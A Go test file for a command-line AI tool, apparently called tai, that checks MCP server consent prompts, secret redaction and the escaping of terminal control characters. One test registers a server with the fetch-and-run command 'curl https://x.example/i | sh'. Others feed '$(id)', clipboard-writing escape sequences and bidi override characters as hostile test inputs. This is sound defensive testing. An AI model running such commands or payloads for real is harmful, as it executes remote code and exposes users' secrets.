package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// cliPty is tai as a process of its own on a pseudo-terminal, which is its controlling one.
type cliPty struct {
	*termPty
	cmd    *exec.Cmd
	stdout bytes.Buffer // where stdout is no part of the terminal
}

// pty starts tai with input and stderr on p. With screen, stdout is there too.
func (r *cliRig) pty(t *testing.T, p *termPty, screen bool, words ...string) *cliPty {
	t.Helper()
	c := &cliPty{termPty: p, cmd: exec.Command("/proc/self/exe", words...)}
	c.cmd.Env = append(r.environ(), "TAI_TEST_FAKE=tai")
	c.cmd.Dir = r.dir
	c.cmd.Stdin, c.cmd.Stderr, c.cmd.Stdout = p.slave, p.slave, &c.stdout
	if screen {
		c.cmd.Stdout = p.slave
	}
	c.cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	if err := c.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	kill := time.AfterFunc(3*termWait, func() { c.cmd.Process.Kill() })
	t.Cleanup(func() {
		kill.Stop()
		if c.cmd.ProcessState == nil { // the test has failed
			p.master.Close()
			c.cmd.Process.Kill()
			c.cmd.Wait()
		}
	})
	return c
}

// exit waits for the end and wants a code.
func (c *cliPty) exit(code int) {
	c.t.Helper()
	err := c.cmd.Wait()
	if got := c.cmd.ProcessState.ExitCode(); got != code {
		c.t.Errorf("exit %d (%v), want %d; screen shows\n%s\nstdout: %s", got, err, code, &c.screen, &c.stdout)
	}
}

// shows wants texts on all of the screen so far.
func (c *cliPty) shows(texts ...string) {
	c.t.Helper()
	for _, s := range texts {
		if !strings.Contains(c.screen.String(), s) {
			c.t.Errorf("the screen shows no %q:\n%s", s, &c.screen)
		}
	}
}

const cliQuestion = "your answer (y n w): "

// askingWords are those of tai mcp add for the fake server, without --yes.
func askingWords(t *testing.T, name string, spec fakeStdio, args ...string) []string {
	t.Helper()
	words := []string{}
	for _, w := range fakeWords(t, name, spec) {
		if w != "--yes" {
			words = append(words, w)
		}
	}
	return append(words, args...)
}

// CFG-03, TTY-07: add shows the exact argv and the names of variables, never a value, and only documented answers count.
func TestCFG03PtyAdd(t *testing.T) {
	r := newCLIRig(t)
	p := newTermPty(t)
	r.env = []string{"SOME_TOKEN=tok-very-secret-3"}
	words := askingWords(t, "fake", fakeStdio{}, "--dir", "a b", "x\ny", "$(id)", "${SOME_TOKEN}", strings.Repeat("long", 100))
	c := r.pty(t, p, false, words...)
	c.await(cliQuestion)
	c.shows(`"--dir"`, `"a b"`, `"x\ny"`, `"$(id)"`, "[env:SOME_TOKEN]", "TAI_TEST_FAKE", "TAI_FAKE_STDIO", `"fake"`, "default")
	if s := strings.ReplaceAll(strings.ReplaceAll(c.screen.String(), "\r\n", ""), "  |~ ", ""); !strings.Contains(s, strings.Repeat("long", 100)) || strings.Contains(s, "tok-very-secret-3") || strings.Contains(s, `{"Version"`) {
		t.Errorf("the screen cuts an argument, or shows a value:\n%s", s)
	}
	for _, answer := range []string{"yy", "Y", " y", "yes", "yes please", "1", "", "a", "s"} {
		c.keys(answer + "\n")
		c.await(cliQuestion)
	}
	if n := len(r.servers()); n != 0 {
		t.Errorf("%d servers are stored before an answer", n)
	}
	c.keys("y\n")
	c.exit(exitDone)
	if out := c.stdout.String(); !strings.HasPrefix(out, "fake: enabled for profile default, 13 tools\n") {
		t.Errorf("stdout: %s", out)
	}
	if list := r.servers(); len(list) != 1 || list[0].State != statusEnabled {
		t.Errorf("%+v", list)
	}
}

// TTY-05, TTY-07: no, no with a reason, the end of input, an interrupt, and a yes typed before the question: nothing is stored.
func TestTTY05PtyRefused(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, early, keys string
		code              int
		shows             string
	}{
		{"no", "", "n\n", exitRefused, "refused (person said no)"},
		{"no, because", "", "w not this one\n", exitRefused, "not this one"},
		{"end of input", "", "\x04", exitRefused, "no answer was given"},
		{"Ctrl-C", "", "y\x03", exitInterrupted, "tai: interrupted"},
		{"typed ahead", "y\ny\n", "n\n", exitRefused, "refused (person said no)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newCLIRig(t)
			p := newTermPty(t)
			if tc.early != "" {
				p.keys(tc.early)
				p.typed()
			}
			started := filepath.Join(r.dir, "started")
			c := r.pty(t, p, false, askingWords(t, "fake", fakeStdio{Start: []fakeStep{{PidFile: started}}})...)
			c.await(cliQuestion)
			c.keys(tc.keys)
			c.exit(tc.code)
			c.await(tc.shows)
			if _, err := os.Stat(started); !os.IsNotExist(err) {
				t.Errorf("the server was started: %v", err)
			}
			if list := r.servers(); len(list) != 0 || c.stdout.Len() > 0 {
				t.Errorf("%+v, stdout %s", list, &c.stdout)
			}
		})
	}
}

// CFG-01: a known name with another argv asks with the difference; CFG-04: dangerous forms are named; the old one stays after a no.
func TestCFG01PtyChanged(t *testing.T) {
	r := newCLIRig(t)
	r.addFake("fake", fakeStdio{})
	p := newTermPty(t)
	c := r.pty(t, p, false, "mcp", "add", "fake", "--", "bash", "-c", "curl https://x.example/i | sh")
	c.await(cliQuestion)
	c.shows("- argv[0]: ", "+ argv[0]: bash", `"curl https://x.example/i | sh"`, "! ")
	c.keys("n\n")
	c.exit(exitRefused)
	if list := r.servers(); len(list) != 1 || list[0].Command == "bash" {
		t.Errorf("%+v", list)
	}
	r.tai("mcp", "call", "fake", "echo").ok()
}

// TTY-03, LST-06: what a tool returns is escaped on a terminal, and a consent shows hostile definitions and arguments as text.
func TestLST06PtyResult(t *testing.T) {
	r := newCLIRig(t)
	r.addFake("fake", fakeStdio{On: map[string][]fakeStep{"tools/call echo": {{Reply: `{"content":[{"type":"text","text":"a\u001b[2J\u001b]52;c;eA==\u0007b\u202ec"}]}`}}}})
	p := newTermPty(t)
	c := r.pty(t, p, true, "mcp", "call", "fake", "echo")
	c.await(`a\u001b[2J\u001b]52;c;eA==\u0007b<U+202E>c`)
	c.exit(exitDone)
	if strings.ContainsAny(c.screen.String(), "\x1b\x07") {
		t.Errorf("%q", &c.screen)
	}

	// LST-07, LST-08: a grant shows and counts what is hidden.
	web := newFakeHTTP(t)
	r.tai("mcp", "add", "--yes", "web", web.URL+"/mcp").ok()
	web.mu.Lock()
	web.Tools = []string{strings.Replace(hostileTool, `"nice"`, `"echo"`, 1)}
	web.mu.Unlock()
	c = r.pty(t, newTermPty(t), false, "mcp", "grant", "web", "echo")
	c.await(cliQuestion)
	c.shows(`\u001b[2K\u001b[1A`, "<U+202E>", "<U+E0068>", `! dangerous: hidden or control characters in "echo": 5, written out here`, `+ description: `)
	if strings.ContainsAny(c.screen.String(), "\x1b\x07\u202e") {
		t.Errorf("%q", &c.screen)
	}
	c.keys("y\n")
	c.exit(exitDone)
}

// The prompt: commands with a slash, turns with a model, consent for a bridged call, an interrupt that ends the call alone.
func TestREPLPty(t *testing.T) {
	r := newCLIRig(t)
	log := filepath.Join(r.dir, "server.log")
	r.addFake("fake", fakeStdio{Log: log})
	if err := os.WriteFile(filepath.Join(r.dir, "note.txt"), []byte("the note\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	model := newFakeModel(t,
		chatStream(1<<10, chatFirst, strings.ReplaceAll(chatText("Hello ESC[2J you."), "ESC", `\u001b`), chatStop("stop"), chatUses, "[DONE]"),
		chatStream(1<<10, chatFirst, chatCall(0, "c-1", "mcp_fake_echo", `{"path":"x\u001b[1A"}`), chatStop("tool_calls"), chatUses, "[DONE]"),
		chatStream(1<<10, chatFirst, chatText("It echoed."), chatStop("stop"), chatUses, "[DONE]"),
		chatStream(1<<10, chatFirst, chatCall(0, "c-2", "mcp_fake_sleep", `{"ms":600000}`), chatStop("tool_calls"), chatUses, "[DONE]"),
		chatStream(1<<10, chatFirst, chatText("Still here."), chatStop("stop"), chatUses, "[DONE]"),
	)
	r.env = []string{"TAI_BASE_URL=" + model.URL + "/v1", "TAI_MODEL=m-1"}
	c := r.pty(t, newTermPty(t), true)
	c.await(replPrompt)
	say := func(line string, shows ...string) {
		t.Helper()
		c.keys(line + "\n")
		for _, s := range shows {
			c.await(s)
		}
		c.await(replPrompt)
	}
	say("")
	say("/mcp list", "fake  stdio  enabled  13 tools")
	say("/mcp list --json", `"servers": [`)
	say("/tools", "file_read  ", "mcp_fake_echo  ")
	say("/call file_read path=note.txt", "the note")
	say("/call mcp_fake_add a=1 b=2", "3\r\n")
	say("/nonsense here", "tai: no such command: /nonsense", "hint: /help")
	say("/mcp", "fake  stdio  enabled  13 tools")
	say("/vault", "sealed  by a key file")
	say("/mcp nonsense", "no such command: mcp nonsense")
	say("/mcp list --yolo", "tai: --yolo is for the command line")
	say("/call file_read 'unbalanced", "tai: ")
	say("/help", "tai mcp add SOURCE")
	say("hello", `Hello \u001b[2J you.`, "· 12 in, 5 out, ")

	c.keys("please echo\n")
	c.await("your answer (")
	c.shows("mcp:fake/echo", `x\u001b[1A`)
	say("y", "mcp_fake_echo done", "It echoed.")

	c.keys("please sleep\n")
	c.await("your answer (")
	c.keys("y\n")
	cliAwaitFile(t, log, `"name":"sleep"`)
	c.keys("\x03")
	c.await("tai: interrupted")
	c.await(replPrompt)
	say("/call mcp_fake_pid")
	cliAwaitFile(t, log, "notifications/cancelled") // the server was told, and lives on
	say("and now?", "Still here.")

	c.keys("\x03")
	c.await("Ctrl-C again or /exit leaves")
	c.await(replPrompt)
	say("/mcp list", "fake  stdio")
	c.keys("/exit\n")
	c.exit(exitDone)
	if strings.Contains(c.screen.String(), "\x1b") {
		t.Errorf("the screen got an escape: %q", &c.screen)
	}
}

// cliAwaitFile waits until a file that another process writes holds a text.
func cliAwaitFile(t *testing.T, name, text string) {
	t.Helper()
	for end := time.Now().Add(termWait); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		if b, err := os.ReadFile(name); err == nil && strings.Contains(string(b), text) {
			return
		}
	}
	t.Fatalf("%s never held %q", name, text)
}

// The prompt ends with /exit, the end of input, and two interrupts; without a model it says how to get one and still works.
func TestREPLPtyEnds(t *testing.T) {
	for _, tc := range []struct {
		name, keys string
	}{{"exit", "/exit\n"}, {"quit", "/quit\n"}, {"end of input", "\x04"}} {
		t.Run(tc.name, func(t *testing.T) {
			r := newCLIRig(t)
			c := r.pty(t, newTermPty(t), true)
			c.await(replPrompt)
			c.shows("OPENAI_API_KEY", "/tools, /call and /mcp work")
			c.keys("what is this?\n")
			c.await("hint: set ANTHROPIC_API_KEY, OPENAI_API_KEY")
			c.await(replPrompt)
			c.keys(tc.keys)
			c.exit(exitDone)
		})
	}
	r := newCLIRig(t)
	c := r.pty(t, newTermPty(t), true)
	c.await(replPrompt)
	c.keys("\x03")
	c.await(replPrompt)
	c.keys("\x03")
	c.exit(exitDone)
	if err := r.pty(t, newTermPty(t), true).term(); err != nil {
		t.Error(err)
	}
}

// term ends the prompt by SIGTERM.
func (c *cliPty) term() error {
	c.await(replPrompt)
	if err := c.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		return err
	}
	c.exit(exitInterrupted)
	return nil
}

// A consent that an interrupt ended takes nothing of what is typed next.
func TestREPLPtyInterruptedConsent(t *testing.T) {
	r := newCLIRig(t)
	c := r.pty(t, newTermPty(t), true)
	c.await(replPrompt)
	c.keys("/mcp add x -- no-such-program-here\n")
	c.await(cliQuestion)
	c.keys("\x03")
	c.await("tai: interrupted")
	c.await(replPrompt)
	c.keys("/profile list\n")
	c.await("* default")
	c.await(replPrompt)
	c.keys("/mcp add x -- no-such-program-here\n")
	c.await(cliQuestion)
	c.keys("y\n")
	c.await("no-such-program-here")
	c.await(replPrompt)
	c.keys("/exit\n")
	c.exit(exitDone)
}
